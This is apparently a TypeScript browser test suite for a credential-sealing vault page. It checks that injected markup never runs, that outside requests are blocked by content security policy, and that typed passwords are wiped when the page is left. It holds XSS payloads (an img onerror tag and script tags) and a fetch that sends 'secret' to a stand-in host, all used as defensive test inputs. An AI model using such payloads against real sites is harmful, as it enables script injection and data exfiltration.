/** The page that seals, against whoever would have it run or tell something else. */
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import {
  browser,
  closeSealing,
  edge,
  fill,
  of,
  opening,
  openSealing,
  PASSWORD,
  press,
  SHOP,
  sourceFor,
  status
} from "./sealing.ts"

beforeAll(openSealing)
afterAll(closeSealing)

describe("no script but its own runs", () => {
  const EVIL = `<img src="x" onerror="alert(1)"><script>alert(2)</script>`
  const INJECT = `{
    const script = document.createElement("script")
    let refused = ""
    try { script.text = "window.ran = true" } catch (error) { refused = error.name }
    document.body.append(script)
    try { document.body.insertAdjacentHTML("beforeend", "<b>") } catch (error) { refused += " " + error.name }
    refused
  }`

  it("whatever the service answers, and whatever is typed", async () => {
    const { token } = await sourceFor("login")
    const visit = await browser.visit(`${edge}/vault/seal`)
    await visit.page.route("**/api/v1/vault/source", (route) =>
      route.fulfill({
        json: {
          ok: true,
          data: {
            vault: EVIL,
            agent: { id: EVIL, hx_id: EVIL, handle: EVIL, name: EVIL, status: EVIL, url: EVIL },
            public_key: of.vault.public_key,
            status: EVIL,
            kinds: [EVIL, "login", "__proto__"]
          }
        }
      })
    )
    await visit.page.route("**/api/v1/vault/entries", (route) =>
      route.fulfill({
        status: 422,
        json: { ok: false, error: { code: "validation_error", message: EVIL, details: { field: EVIL } } }
      })
    )
    await visit.page.getByLabel("Token").fill(token)
    await press(visit, "Go on")
    await visit.page.getByText(`You write into the vault of agent ${EVIL}`).waitFor()
    await fill(visit, "login", { username: EVIL, password: EVIL, origins: SHOP, label: "<b>bold</b>" })
    await press(visit, "Seal and send")
    await status(visit, EVIL)
    expect(await visit.page.evaluate("[document.images.length, document.scripts.length]")).toEqual([0, 1])
    expect(visit.dialogs).toEqual([])
    expect(visit.requests.filter((url) => !url.startsWith(`${edge}/`))).toEqual([])
    expect(await visit.page.evaluate(INJECT)).toBe("TypeError TypeError")
    expect(await visit.page.evaluate("window.ran")).toBeUndefined()
    await visit.close()
  })

  it("and nothing is sent elsewhere", async () => {
    const visit = await browser.visit(`${edge}/vault/seal`)
    const tried = await visit.page.evaluate(
      `fetch("https://elsewhere.example/?" + "secret").then(() => "sent", (error) => error.name)`
    )
    expect(tried).toBe("TypeError")
    expect(visit.complaints.join("\n")).toContain("connect-src 'self'")
    await visit.close()
  })
})

describe("what was typed", () => {
  it("is gone when the page is left, and comes back by no way", async () => {
    const visit = await opening((await sourceFor("login")).token)
    await fill(visit, "login", { username: "ada", password: PASSWORD })
    await visit.page.evaluate("addEventListener('pagehide', () => { globalThis.left = true })")
    const kept =
      "[...document.querySelectorAll('input, textarea')].map(({ type, value }) => /radio/.test(type) ? '' : value)"
    expect(await visit.page.evaluate(kept)).toContain(PASSWORD)
    await visit.page.evaluate("dispatchEvent(new Event('pagehide'))")
    expect(new Set((await visit.page.evaluate(kept)) as ReadonlyArray<string>)).toEqual(new Set(["", "on"]))
    await visit.page.goto(`${edge}/roadmap`)
    await visit.page.goBack()
    expect(JSON.stringify(await visit.page.evaluate(kept))).not.toContain(PASSWORD)
    await visit.close()
  })

  it("can be typed nowhere where no script runs", async () => {
    const visit = await browser.visit(`${edge}/vault/seal`, { javaScriptEnabled: false })
    await visit.page.getByRole("heading", { name: "Seal an entry" }).waitFor()
    expect(await visit.page.locator("form:visible, input:visible").count()).toBe(0)
    await visit.close()
  })
})
